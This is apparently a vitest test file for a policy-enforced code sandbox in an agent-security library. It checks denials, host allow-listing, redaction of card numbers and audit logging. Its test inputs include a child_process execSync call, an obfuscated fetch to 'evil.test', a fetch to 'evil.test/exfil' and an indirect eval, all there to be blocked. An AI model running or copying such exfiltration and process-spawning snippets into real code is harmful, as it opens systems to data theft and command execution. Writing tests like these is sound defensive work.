/**
 * runCode under a policy: the run is decided on the code's facts before anything runs, each host
 * call the code makes is decided as its own action in the same session, the run's output is
 * decided as its result, and every step is in an audit log that verifies.
 */
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ActionDenied, createEnforcer, type Enforcer, ToolFailed, verifyAuditLogFile } from "@agent-armor/runtime";
import { createPythonPool, createSandboxPool, type HostTool, type PythonPool, runCode, SandboxFailure } from "@agent-armor/sandbox";
import { afterAll, describe, expect, it } from "vitest";

const POLICY = `policy sandbox_test version "1"

default allow

rule no_processes
  when action.type == "run_code" and "child_process" in imports
  deny because "code may not start processes"

rule no_hidden_code
  when action.type == "run_code" and dynamic == true
  deny because "code that hides what it runs is not run"

rule known_hosts_only
  when action.type == "http_get" and host(url) not in ["api.example.com"]
  deny because "the sandbox reaches api.example.com only"

rule cards_stay_out on result
  when action.type == "run_code"
  redact result.stdout matching std.card_number with "[CARD]"
`;

const pool = createSandboxPool({ size: 1 });
afterAll(() => pool.close());

async function enforcerWith(throwOnDeny = true): Promise<{ enforcer: Enforcer; file: string }> {
  const file = join(mkdtempSync(join(tmpdir(), "armor-sandbox-")), "audit.jsonl");
  return { enforcer: await createEnforcer({ policy: { fileName: "sandbox.armor", source: POLICY }, audit: { file }, throwOnDeny }), file };
}

const records = (file: string) =>
  readFileSync(file, "utf8")
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l) as { kind: string; decision?: string; outcome?: string; action?: { type?: string } })
    .map((r) => `${r.kind} ${r.action?.type ?? ""} ${r.decision ?? r.outcome ?? ""}`.replace(/\s+/g, " ").trim());

describe("runCode", () => {
  it("runs allowed code, decides each host call, and redacts the output", async () => {
    const { enforcer, file } = await enforcerWith();
    const fetched: string[] = [];
    const host: Record<string, HostTool> = {
      fetch: {
        type: "http_get",
        action: ([url]) => ({ url }),
        run: async (a) => {
          fetched.push(String(a.url));
          return { status: 200, body: "card 4111 1111 1111 1111" };
        },
      },
    };
    const code = 'const r = await fetch("https://api.example.com/v1/cards"); console.log(r.body); return r.status';
    const { decision, result } = await runCode(enforcer, { language: "javascript", code }, { session: "s1" }, { host, pool });
    expect(decision).toMatchObject({ decision: "allow", action: { type: "run_code", language: "javascript", code, calls: ["fetch"], hosts: ["api.example.com"], dynamic: false } });
    expect(result).toEqual({ value: 200, stdout: "card [CARD]\n" });
    expect(fetched).toEqual(["https://api.example.com/v1/cards"]);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code allow", "decision http_get allow", "outcome ok", "result allow", "outcome ok", "result allow"]);
    expect((await verifyAuditLogFile(file)).ok).toBe(true);
  });

  it.each([
    { name: "an import the policy forbids", code: 'const cp = require("child_process"); cp.execSync("id")', rule: "no_processes" },
    { name: "code that hides what it calls", code: 'const k = "fe" + "tch"; await globalThis[k]("https://evil.test")', rule: "no_hidden_code" },
  ])("denies $name before anything runs", async ({ code, rule }) => {
    const { enforcer, file } = await enforcerWith();
    let ran = false;
    const host = { fetch: { type: "http_get", action: ([url]: unknown[]) => ({ url }), run: () => (ran = true) } };
    const err = await runCode(enforcer, { language: "javascript", code }, { session: "s2" }, { host, pool }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ActionDenied);
    expect((err as ActionDenied).decision.rules.map((r) => r.id)).toEqual([rule]);
    expect(ran).toBe(false);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code deny"]);
  });

  // an enforcer that answers denials rather than throwing them (the gateway's) gives the guest the same error
  it.each([[true], [false]])("a host call the policy denies fails inside the code, which may carry on (throwOnDeny %s)", async (throwOnDeny) => {
    const { enforcer, file } = await enforcerWith(throwOnDeny);
    let ran = false;
    const host = { fetch: { type: "http_get", action: ([url]: unknown[]) => ({ url }), run: () => (ran = true) } };
    const code = 'try { await fetch("https://evil.test/exfil") } catch (e) { console.log("refused: " + e.message) } return "done"';
    const { result } = await runCode(enforcer, { language: "javascript", code }, { session: "s3" }, { host, pool });
    expect(result?.value).toBe("done");
    expect(result?.stdout).toMatch(/^refused: action `http_get` denied \(known_hosts_only: /);
    expect(ran).toBe(false);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code allow", "decision http_get deny", "outcome ok", "result allow"]);
  });

  it("a sandbox failure fails the run, naming its cause, and is audited", async () => {
    const { enforcer, file } = await enforcerWith();
    const err = await runCode(enforcer, { language: "javascript", code: "while (true) {}" }, { session: "s4" }, { pool, limits: { timeMs: 100 } }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ToolFailed);
    expect((err as Error).message).toMatch(/ran longer than 100 ms/);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code allow", "outcome error", "result allow"]);
    expect((await verifyAuditLogFile(file)).ok).toBe(true);
  });
});

describe("runCode runs only the code decided", () => {
  const REDACTING = `policy sandbox_redact version "1"

default allow

rule no_hidden_code
  when action.type == "run_code" and dynamic == true
  deny because "code that hides what it runs is not run"

rule cards_never_run
  when action.type == "run_code"
  redact code matching std.card_number with "[CARD]"
`;

  // redacted, \`g[4111111111111111]\` would be \`g[[CARD]]\`, that is \`g["eval"]\`: code whose facts were never read
  it("a policy that rewrites the code fails the run (rewritten) without running it, audited", async () => {
    const file = join(mkdtempSync(join(tmpdir(), "armor-sandbox-")), "audit.jsonl");
    const enforcer = await createEnforcer({ policy: { fileName: "redact.armor", source: REDACTING }, audit: { file } });
    const failures: string[] = [];
    const code = 'const CARD = "eval"; const g = [globalThis][0]; const f = g[4111111111111111]; return f("6*7")';
    const err = await runCode(enforcer, { language: "javascript", code }, { session: "r1" }, { pool, onFailure: (f) => failures.push(f.kind) }).catch((e: unknown) => e);
    // a policy without rules on results: the failure itself
    expect(err).toBeInstanceOf(SandboxFailure);
    expect((err as SandboxFailure).kind).toBe("rewritten");
    expect((err as Error).message).toMatch(/the policy rewrote the code it decided .*rewritten code is never run/);
    expect(failures).toEqual(["rewritten"]);
    // code the policy leaves as it is runs
    const { result } = await runCode(enforcer, { language: "javascript", code: "return 6 * 7" }, { session: "r1" }, { pool });
    expect(result?.value).toBe(42);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code allow", "outcome error", "decision run_code allow", "outcome ok"]);
    expect((await verifyAuditLogFile(file)).ok).toBe(true);
  });
});

describe("runCode and Python interpreters", () => {
  const APPROVING = `policy sandbox_approve version "1"

default allow

rule ask_first
  when action.type == "run_code" and "json" in imports
  require approval from "ops"
`;

  /** A pool that counts the interpreters held, and reads \`import json\` as the only fact. */
  function countingPool() {
    const state = { held: 0, taken: 0, runs: [] as string[] };
    const pool: PythonPool = {
      async take() {
        state.held++;
        state.taken++;
        let released = false;
        return {
          facts: async (code) => ({ imports: code.includes("import json") ? ["json"] : [], calls: [], urls: [], hosts: [], dynamic: false, error: null }),
          run: async (code) => {
            state.runs.push(code);
            return { value: 1, stdout: "" };
          },
          release: () => {
            if (!released) state.held--;
            released = true;
          },
        };
      },
      async run(code, limits, host) {
        const lease = await this.take(limits.timeMs);
        try {
          return await lease.run(code, limits, host);
        } finally {
          lease.release();
        }
      },
      get processes() {
        return state.held;
      },
      close: async () => undefined,
    };
    return { pool, state };
  }

  it.each([
    [true, ["import json\n1"]],
    [false, []],
  ])("no interpreter is held while the decision waits for an approval (approved: %s)", async (approved, runs) => {
    const { pool: pythonPool, state } = countingPool();
    const heldWhileWaiting: number[] = [];
    const approvals = {
      request: async () => {
        heldWhileWaiting.push(state.held);
        return { approved, approver: "ann" };
      },
    };
    const enforcer = await createEnforcer({ policy: { fileName: "approve.armor", source: APPROVING }, approvals, throwOnDeny: false });
    await runCode(enforcer, { language: "python", code: "import json\n1" }, { session: "p1" }, { pythonPool });
    expect(heldWhileWaiting).toEqual([0]);
    expect(state.runs).toEqual(runs);
    // facts on one interpreter, the run (once allowed) on another; none left held
    expect(state.taken).toBe(approved ? 2 : 1);
    expect(state.held).toBe(0);
    await enforcer.close();
  });
});

describe("a closed pool", () => {
  it("fails the run with a SandboxFailure (closed), audited as the tool's failure", async () => {
    const closed = createSandboxPool({ size: 1 });
    await closed.close();
    const file = join(mkdtempSync(join(tmpdir(), "armor-sandbox-")), "audit.jsonl");
    const enforcer = await createEnforcer({ policy: { fileName: "sandbox.armor", source: POLICY }, audit: { file } });
    const failures: string[] = [];
    const err = await runCode(enforcer, { language: "javascript", code: "return 1" }, { session: "c1" }, { pool: closed, onFailure: (f) => failures.push(f.kind) }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ToolFailed);
    expect(failures).toEqual(["closed"]);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code allow", "outcome error", "result allow"]);
  });

  it("a closed Python pool refuses a lease with a SandboxFailure", async () => {
    const py = createPythonPool({ size: 0 });
    await py.close();
    const err = await py.take(100).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(SandboxFailure);
    expect((err as SandboxFailure).kind).toBe("closed");
  });
});
